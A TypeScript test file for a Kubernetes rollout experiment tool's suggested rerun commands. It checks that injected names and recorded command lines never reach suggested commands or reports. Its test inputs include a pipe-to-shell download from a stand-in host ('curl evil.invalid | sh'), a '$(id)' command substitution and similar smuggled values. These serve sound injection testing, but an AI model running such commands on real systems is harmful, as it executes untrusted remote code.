import assert from 'node:assert/strict';
import type { RunFindings } from '../../harness/model/finding.ts';
import type { RunPlan } from '../../harness/model/plan.ts';
import { printableJson } from '../../harness/model/printable.ts';
import { html } from '../html/html.ts';
import { report } from '../json/report-json.ts';
import { junitXml } from '../junit/junit-xml.ts';
import { summary } from '../terminal/summary.ts';
import { failingRun } from '../testing/rollout-runs.ts';
import { judgeAgain, printFailed, printRequests, runAgain } from './command.ts';

let run: RunFindings;
let plan: RunPlan;
const evil = 'x; curl evil.invalid | sh';

/** The plan with other names. */
const named = (names: { readonly experiment?: string; readonly arm?: string }): RunPlan => ({
  ...plan,
  command: ['./holdfast', 'run', '--arm', 'treatment'],
  experiments: plan.experiments.map((experiment) => ({
    ...experiment,
    name: names.experiment ?? experiment.name,
    arms: experiment.arms.map((arm) => ({ ...arm, name: names.arm ?? arm.name })).slice(0, 1),
  })),
});

describe('a suggested command', () => {
  before(async () => {
    run = await failingRun();
    plan = { ...run.plan, command: ['./holdfast', 'run', 'rolling-update'], settings: {} };
  });

  it('repeats a run with its experiments, seed and settings', () => {
    assert.equal(runAgain(plan), './holdfast run rolling-update --seed dec221d0');
    const set = { ...plan, settings: { preStop: '3', 'treatment.budget': 'maxUnavailable:30%' } };
    assert.equal(
      runAgain(set),
      './holdfast run rolling-update --seed dec221d0 --set preStop=3 --set treatment.budget=maxUnavailable:30%',
    );
  });

  it('includes arms, repeats and the lab, if the run had these options', () => {
    const [experiment] = plan.experiments;
    const [arm] = experiment?.arms ?? [];
    assert.ok(experiment && arm);
    const arms = [arm, { ...arm, name: `${arm.name}-2`, repeats: arm.name }];
    const told: RunPlan = {
      ...plan,
      command:
        './holdfast run rolling-update --arm=x --repeat 9 --deadline 2h --kubernetes 1 --node-timings x --proxy-mode x'.split(
          ' ',
        ),
      deadlineMs: 7_200_000,
      experiments: [{ ...experiment, arms, until: { confidence: 0.95, share: 0.07 } }],
    };
    assert.equal(
      runAgain(told),
      `./holdfast run rolling-update --arm ${arm.name} --seed dec221d0 --repeat 2 --until 95%:7% --deadline 7200s --kubernetes 1.37 --node-timings fast --proxy-mode iptables`,
    );
  });

  it('names a run by the path that was typed, if its id is not enough to find it', () => {
    const typed = { run: plan.run, typed: '/tmp/my runs/x' };
    assert.equal(judgeAgain(typed), "./holdfast judge '/tmp/my runs/x'");
    assert.equal(printFailed(typed, 'treatment'), "./holdfast requests --failed '/tmp/my runs/x' --arm treatment");
  });

  it('is undefined for an injection, which is not an experiment', () =>
    assert.equal(runAgain(named({ experiment: 'inject' })), undefined));

  it('is unknown if a file with experiments was named', () => {
    for (const file of ['./first-experiment.mts', 'checks/rolling-update.ts', '/srv/checks.js'])
      assert.equal(runAgain({ ...plan, command: ['./holdfast', 'run', file] }), undefined);
  });

  it('contains no text of the recorded command line', () => {
    const command = ['sh', '-c', 'curl evil.invalid | sh', `--set=${evil}`];
    assert.equal(runAgain({ ...plan, command }), './holdfast run rolling-update --seed dec221d0');
  });

  for (const name of [evil, '$(id)', '-rf', '../x', '', 'a b', 'a\nb', 'a\u202eb', 'ä', 'x'.repeat(300)])
    it(`is undefined if a name in it is ${printableJson(name).slice(0, 30)}`, () => {
      assert.equal(runAgain(named({ experiment: name })), undefined);
      assert.equal(runAgain(named({ arm: name })), undefined);
      assert.equal(runAgain({ ...plan, seed: name }), undefined);
      assert.equal(runAgain({ ...plan, settings: { [name]: '1' } }), undefined);
      assert.equal(runAgain({ ...plan, settings: { rate: `${name};` } }), undefined);
      for (const command of [judgeAgain, printFailed, printRequests])
        assert.equal(command({ ...plan, run: name }), undefined);
      if (name !== '') assert.equal(printFailed(plan, name), undefined);
    });

  it('appears nowhere in the reports of a recording that contains a malicious one', () => {
    const planted: RunFindings = {
      ...run,
      plan: { ...plan, command: ['sh', '-c', 'curl evil.invalid | sh'], run: evil, seed: evil, settings: { a: evil } },
      experiments: run.experiments.map((experiment) => ({
        ...experiment,
        arms: experiment.arms.map((arm) => ({
          ...arm,
          findings: arm.findings.map((finding) => ({ ...finding, look: 'requests' })),
        })),
      })),
    };
    const screen = summary(planted, { color: false, width: 80, folder: 'runs/x' });
    assert.doesNotMatch(screen, /^ +(?:judge|again|requests) |evil/m);
    assert.deepEqual(report(planted).command, []);
    const page = html(planted);
    assert.doesNotMatch(page, /<dl class="commands">|Every row|sh -c/);
    for (const text of [page, junitXml(planted), JSON.stringify(report(planted))])
      assert.doesNotMatch(text, /holdfast (?:run|judge|requests)[^<"]*evil/);
  });
});
